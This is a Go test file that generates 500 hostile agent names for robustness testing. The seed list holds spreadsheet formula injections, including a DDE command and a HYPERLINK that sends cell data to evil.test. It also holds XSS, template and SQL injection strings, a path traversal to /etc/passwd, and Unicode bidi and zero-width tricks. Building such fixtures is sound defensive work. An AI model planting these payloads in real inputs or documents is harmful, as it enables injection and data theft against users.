package graph_test

import "fmt"

// hostileNames are five hundred names that somebody could give an agent to harm whoever looks at it: markup, scripts, formulas, statements,
// paths, templates, and letters that hide, turn round or break what stands beside them.
func hostileNames() []string {
	seeds := []string{
		`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.test?"&A1,"x")`, `+1+1`, `-1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`,
		"=WEBSERVICE(\"http://evil.test\")", "=IMPORTXML(\"http://evil.test\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
		"＝1+1", "＋1", "－1", "＠SUM(1)", "%0A=1+1", `";=1+1;"`, `",=1+1,"`, `'=1+1`, `"=1+1"`,
		`<script>window.hacked=1</script>`, `<img src=x onerror="window.hacked=1">`, `<svg onload=window.hacked=1>`, `"><script>window.hacked=1</script>`,
		`javascript:window.hacked=1`, `<a href="javascript:window.hacked=1">x</a>`, `</title><script>window.hacked=1</script>`, `<iframe srcdoc="<script>parent.hacked=1</script>">`,
		`<!--`, `]]>`, `&lt;script&gt;`, `&#60;script&#62;`, `<style>*{display:none}</style>`, `<base href="//evil.test">`, `<template>`, `<math><mi//xlink:href="data:x,<script>window.hacked=1</script>">`,
		`{{constructor.constructor('window.hacked=1')()}}`, `${window.hacked=1}`, `#{7*7}`, `%s%s%s%n`, `{0}`, `{name, plural, other {#}}`, `__proto__`, `constructor`, `toString`,
		`'; drop table agents; --`, `" or ""="`, `1) or 1=1`, `\\x00`, `../../../../etc/passwd`, `C:\\con`, `NaN`, `null`, `undefined`, `true`, `1e309`,
		"\u202Egnirts desrever", "\u2066hidden\u2069", "zero\u200Bwidth", "\uFEFFmark", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307", "👩‍👩‍👧‍👦", "🏳️‍🌈", "ﷺ", "Ω≈ç√", "田中さん", "\u200fاختبار", "Ｆｕｌｌ",
		"İstanbul", "ß", "ﬁ", "a\u00A0b", "\u3000wide", "\u2028line", "\u2029paragraph", "﷽﷽﷽", "𝕳𝖊𝖑𝖑𝖔", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "ệ", "Nguyễn Thị Ánh", "O’Brien", `back\slash`, "tick`tick", "a,b;c", `quo"te`, `'single'`, `wide|pipe`, `~tilde`, `^caret`,
		"very-long-word-without-any-space-that-could-push-a-column-out-of-the-page-and-on-and-on-and-on", "  inner   spaces  ", "?", "#", "/", "\\",
	}
	frames := []string{"%s", "=%s", "@%s", "-%s", "%s\u200F"}
	names := make([]string, 0, 500)
	for i := 0; len(names) < 500; i++ {
		names = append(names, fmt.Sprintf(frames[i/len(seeds)%len(frames)], seeds[i%len(seeds)]))
	}
	return names
}
